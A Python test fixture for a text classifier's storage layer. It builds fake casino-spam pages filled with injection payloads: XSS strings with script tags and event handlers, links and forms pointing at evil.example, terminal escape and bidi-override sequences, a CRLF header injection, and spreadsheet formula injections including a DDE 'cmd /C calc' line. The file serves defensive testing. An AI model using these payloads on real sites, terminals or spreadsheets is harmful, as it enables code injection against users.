"""Text that tries to be more than text, and a desk full of it."""

from classifier.blocks import Block, Page
from classifier.store.judging import judge_stale
from classifier.store.pins import active_pins
from classifier.store.queue import add_pages
from tests.store.conftest import NOW, rule
from tests.store.test_pins import pin_block

MARKUP = (
    "<script>pwned()</script>",
    "</p></li></ol></main><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea></option></select><img src=x onerror=pwned()>",
    '"><svg onload=pwned()>',
    "' autofocus onfocus=pwned() x='",
    "` onmouseover=pwned() `",
    '<a href="javascript:pwned()">casino</a>',
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "<math><mtext></mtext><mglyph><style><img src=x onerror=pwned()></style></mglyph></math>",
    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/><form action=//evil.example><button>Save</button>",
    "<!--><script>pwned()//-->",
    "{{ 1337 * 1337 }} {% set x = config %} ${1337*1337} #{1337*1337}",
    "&lt;script&gt;pwned()&lt;/script&gt; &#60;script&#62;pwned()",
    "<scr\u0131pt>pwned()</scr\u0131pt> ＜script＞pwned()＜/script＞",
    "<x/onclick=pwned()><details open ontoggle=pwned()>",
    "]]><script>pwned()</script><![CDATA[",
    "<script\x00>pwned()</script\x00>",
)
STEERING = (
    "\x1b[2J\x1b[1;1Hpwned \x1b]0;pwned\x07 \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mpwned\x9b0m \x90pwned\x9c \x08\x08\x08\x7f",
    "\u202epwned\u202c \u2066pwned\u2069 \u200f\u061cpwned",
    "line one\r\nSet-Cookie: pwned=1\r\n\r\n<html>",
)
FORMULAS = ('=HYPERLINK("https://evil.example";"pwned")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1")
EVERY = (*MARKUP, *STEERING, *FORMULAS)
TITLE = "Top 10 Best Online Casino Bonus Offers Without a Deposit"


def hostile_page(number: int) -> Page:
    """Return a page whose texts, address, site and hosts are all hostile, with a run that other such pages have too."""
    run = [f"{TITLE} {payload}" for payload in MARKUP[:6]]
    texts = ["The council voted on Tuesday, officials said.", *run, *EVERY, f"Page number {number}"]
    texts = [" ".join(text.replace("\0", "").split()) for text in texts]
    blocks = [
        Block(text, n, list_item=0 < n <= len(run), hidden=n == 9, link_hosts=(MARKUP[4], STEERING[0]) if n < 8 else ())
        for n, text in enumerate(texts)
    ]
    site = f'"><script>pwned()</script>{number % 2}.example'
    return Page(
        f'https://x{number}.example/?q="><script>pwned()</script>{STEERING[0]}{STEERING[2]}', tuple(blocks), site
    )


def fill(database, model) -> None:
    """Add four such pages, decided on by people with such names who disagree, one block of them pinned."""
    add_pages(database, [hostile_page(number) for number in range(4)], added_at=NOW)
    while judge_stale(database, model):
        pass
    for position in (1, 9, 12):
        rule(database, 1, position, "filler", f"anna {MARKUP[0]}{STEERING[2]}", minutes=position)
        rule(database, 1, position, "news", f"ben {MARKUP[4]}{STEERING[0]}", minutes=position + 20)
    pin_block(database, 2, reason=f"reason {MARKUP[3]}{STEERING[0]}")
    assert active_pins(database)
